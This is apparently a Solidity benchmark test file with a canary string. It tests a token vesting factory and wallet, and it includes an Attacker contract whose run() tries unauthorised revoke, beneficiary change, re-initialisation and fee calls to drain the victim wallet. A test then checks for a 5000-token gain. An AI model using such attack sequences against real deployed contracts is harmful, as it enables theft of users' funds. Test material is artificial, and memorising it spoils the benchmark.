// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./VestingFactory.sol";

// assay-canary-d79efecf-f571-4ac4-b733-f7448584f12c

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20 {
    address private immutable _minter = msg.sender;
    uint256 private _tax;

    constructor() ERC20("Coin", "COIN") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == _minter);
        _mint(to, amount);
    }

    function setTax(uint256 tax) external {
        require(msg.sender == _minter);
        _tax = tax;
    }

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        super.transferFrom(from, to, amount);
        _burn(to, _tax);
        return true;
    }
}

contract Attacker {
    VestingFactory internal factory;
    VestingWallet internal wallet;
    Coin internal coin;

    constructor(VestingFactory factory_, VestingWallet wallet_, Coin coin_) {
        factory = factory_;
        wallet = wallet_;
        coin = coin_;
        coin_.approve(address(factory_), type(uint256).max);
    }

    receive() external payable {}

    function _try(address to, bytes memory data, uint256 value) internal returns (bool ok) {
        (ok, ) = to.call{value: value}(data);
    }

    function _terms(uint256 amount, uint64 start, uint64 duration) internal view returns (Terms memory) {
        return Terms(coin, address(this), start, 0, duration, amount, true);
    }

    function _own(bytes32 salt, uint256 amount, uint64 start, uint64 duration) internal returns (VestingWallet own) {
        _try(address(factory), abi.encodeCall(factory.createWallet, (salt, _terms(amount, start, duration))), factory.fee());
        own = VestingWallet(factory.predictWallet(address(this), salt));
    }

    function run() external {
        // straight at the other's wallet
        address w = address(wallet);
        _try(w, abi.encodeCall(wallet.revoke, ()), 0);
        _try(w, abi.encodeCall(wallet.changeBeneficiary, (address(this))), 0);
        _try(w, abi.encodeCall(wallet.release, ()), 0);
        _try(factory.implementation(), abi.encodeCall(wallet.initialize, (address(this), _terms(1, 1, 1))), 0);
        // the factory
        _try(address(factory), abi.encodeCall(factory.setFee, (0)), 0);
        _try(address(factory), abi.encodeCall(factory.collectFees, (payable(address(this)))), 0);
        _try(address(factory), abi.encodeCall(factory.createWallet, ("grant", _terms(1 ether, 1, 1))), 0);
        bytes32[] memory salts = new bytes32[](2);
        Terms[] memory list = new Terms[](2);
        salts[0] = "one";
        salts[1] = "two";
        list[0] = _terms(1 ether, 1, 1);
        list[1] = _terms(1 ether, 1, 1);
        _try(address(factory), abi.encodeCall(factory.createWallets, (salts, list)), factory.fee());
        // wallets of one's own
        _own("grant", 1 ether, 1, 0);
        VestingWallet own = _own("grant", 1 ether, 1, 1);
        _try(address(own), abi.encodeCall(own.release, ()), 0);
        _try(address(own), abi.encodeCall(own.revoke, ()), 0);
        _try(address(own), abi.encodeCall(own.release, ()), 0);
        _try(address(own), abi.encodeCall(own.revoke, ()), 0);
        own = _own("half", 1 ether, uint64(block.timestamp) - 1 days, 2 days);
        _try(address(own), abi.encodeCall(own.release, ()), 0);
        _try(address(own), abi.encodeCall(own.revoke, ()), 0);
        _try(address(own), abi.encodeCall(own.revoke, ()), 0);
        _try(address(own), abi.encodeCall(own.initialize, (address(this), _terms(1000 ether, 1, 1))), 0);
        _try(address(own), abi.encodeCall(own.release, ()), 0);
        // once more
        _try(w, abi.encodeCall(wallet.initialize, (address(this), _terms(coin.balanceOf(w), 1, 1))), 0);
        _try(w, abi.encodeCall(wallet.release, ()), 0);
        _try(w, abi.encodeCall(wallet.revoke, ()), 0);
    }
}

/// Takes no ether.
contract Stone {}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant EMPLOYEE = address(0xE1);
    address private constant HEIR = address(0xE2);
    address private constant STRANGER = address(0x57);

    Coin public coin;
    VestingFactory private factory;
    VestingWallet private wallet;
    Attacker private outsider;

    receive() external payable {}

    function _terms() private view returns (Terms memory) {
        return Terms(coin, EMPLOYEE, uint64(block.timestamp), 90 days, 1000 days, 10_000 ether, true);
    }

    function setUp() public {
        vm.warp(1_795_000_000);
        vm.deal(address(this), 10 ether);
        coin = new Coin();
        factory = new VestingFactory(address(this), 0.05 ether);
        coin.mint(address(this), 100_000 ether);
        coin.approve(address(factory), type(uint256).max);
        wallet = VestingWallet(factory.createWallet{value: 0.05 ether}("grant", _terms()));
        outsider = new Attacker(factory, wallet, coin);
        coin.mint(address(outsider), 10 ether);
        vm.deal(address(outsider), 1 ether);
    }

    function test_Regular() public {
        require(factory.isWallet(address(wallet)), "listed");
        require(factory.predictWallet(address(this), "grant") == address(wallet), "foreseen");
        vm.warp(block.timestamp + 90 days - 1);
        require(wallet.release() == 0, "before the cliff");
        vm.warp(block.timestamp + 1);
        wallet.release();
        require(coin.balanceOf(EMPLOYEE) == 900 ether && wallet.released() == 900 ether, "after the cliff");
        vm.prank(EMPLOYEE);
        wallet.changeBeneficiary(HEIR);
        vm.warp(block.timestamp + 110 days);
        uint256 before = coin.balanceOf(address(this));
        wallet.revoke();
        require(coin.balanceOf(address(this)) == before + 8000 ether && wallet.terms().amount == 2000 ether, "revoked");
        vm.warp(block.timestamp + 100 days);
        wallet.release();
        require(coin.balanceOf(HEIR) == 1100 ether && coin.balanceOf(address(wallet)) == 0, "the rest");

        bytes32[] memory salts = new bytes32[](2);
        Terms[] memory list = new Terms[](2);
        (salts[0], salts[1]) = (bytes32("a"), bytes32("b"));
        (list[0], list[1]) = (_terms(), _terms());
        factory.setFee(0.01 ether);
        factory.createWallets{value: 0.02 ether}(salts, list);
        VestingWallet b = VestingWallet(factory.predictWallet(address(this), "b"));
        vm.warp(block.timestamp + 1000 days);
        require(b.vestedAmount(block.timestamp) == 10_000 ether, "all of it");
        factory.collectFees(payable(HEIR));
        require(HEIR.balance == 0.07 ether, "fees");
        bytes32 role = factory.FEE_MANAGER();
        factory.grantRole(role, HEIR);
        factory.revokeRole(role, HEIR);
        factory.renounceRole(role, address(this));
        require(!factory.hasRole(role, HEIR) && !factory.hasRole(role, address(this)), "roles");
    }

    // What is refused, each from the state after setUp().

    function refused(Terms memory terms, bytes memory why) private {
        vm.expectRevert(why);
        factory.createWallet{value: 0.05 ether}("other", terms);
    }

    function test_RefusesTerms() public {
        Terms memory terms = _terms();
        terms.token = IERC20(address(0));
        refused(terms, "VestingWallet: zero token");
        terms = _terms();
        terms.beneficiary = address(0);
        refused(terms, "VestingWallet: zero beneficiary");
        terms = _terms();
        terms.amount = 0;
        refused(terms, "VestingWallet: zero amount");
        terms = _terms();
        (terms.cliff, terms.duration) = (0, 0);
        refused(terms, "VestingWallet: bad schedule");
        terms = _terms();
        terms.cliff = terms.duration + 1;
        refused(terms, "VestingWallet: bad schedule");
        terms = _terms();
        terms.start = uint64(block.timestamp + 3650 days + 1);
        refused(terms, "VestingWallet: bad start");
        coin.setTax(1);
        refused(_terms(), "VestingFactory: not funded");
    }

    function test_RefusesFees() public {
        vm.expectRevert("VestingFactory: zero admin");
        new VestingFactory(address(0), 0);
        vm.expectRevert("VestingFactory: fee too high");
        factory.setFee(0.1 ether + 1);
        vm.expectRevert("VestingFactory: wrong fee");
        factory.createWallet("other", _terms());
        bytes32[] memory salts = new bytes32[](2);
        salts[1] = "b";
        Terms[] memory list = new Terms[](2);
        (list[0], list[1]) = (_terms(), _terms());
        vm.expectRevert("VestingFactory: wrong fee");
        factory.createWallets{value: 0.05 ether}(salts, list);
        vm.expectRevert("VestingFactory: lengths differ");
        factory.createWallets{value: 0.1 ether}(new bytes32[](3), list);
        Stone stone = new Stone();
        vm.expectRevert("VestingFactory: not paid");
        factory.collectFees(payable(address(stone)));
    }

    function test_RefusesStrangers() public {
        vm.prank(STRANGER);
        vm.expectRevert();
        factory.setFee(0);
        vm.prank(STRANGER);
        vm.expectRevert();
        factory.collectFees(payable(STRANGER));
        vm.prank(STRANGER);
        vm.expectRevert("VestingWallet: not the grantor");
        wallet.revoke();
        vm.prank(STRANGER);
        vm.expectRevert("VestingWallet: not the beneficiary");
        wallet.changeBeneficiary(STRANGER);
        vm.prank(EMPLOYEE);
        vm.expectRevert("VestingWallet: zero beneficiary");
        wallet.changeBeneficiary(address(0));
    }

    function test_RefusesRevoking() public {
        Terms memory terms = _terms();
        terms.revocable = false;
        VestingWallet firm = VestingWallet(factory.createWallet{value: 0.05 ether}("firm", terms));
        vm.expectRevert("VestingWallet: not revocable");
        firm.revoke();
        wallet.revoke();
        vm.expectRevert("VestingWallet: not revocable");
        wallet.revoke();
    }

    function test_RefusesASecondWallet() public {
        vm.expectRevert();
        factory.createWallet{value: 0.05 ether}("grant", _terms());
    }

    function exploit() public {
        outsider.run();
    }

    function test_Exploit() public {
        uint256 before = coin.balanceOf(address(outsider));
        exploit();
        require(coin.balanceOf(address(outsider)) >= before + 5000 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(wallet);
    }

    function attacker() public view returns (address) {
        return address(outsider);
    }
}
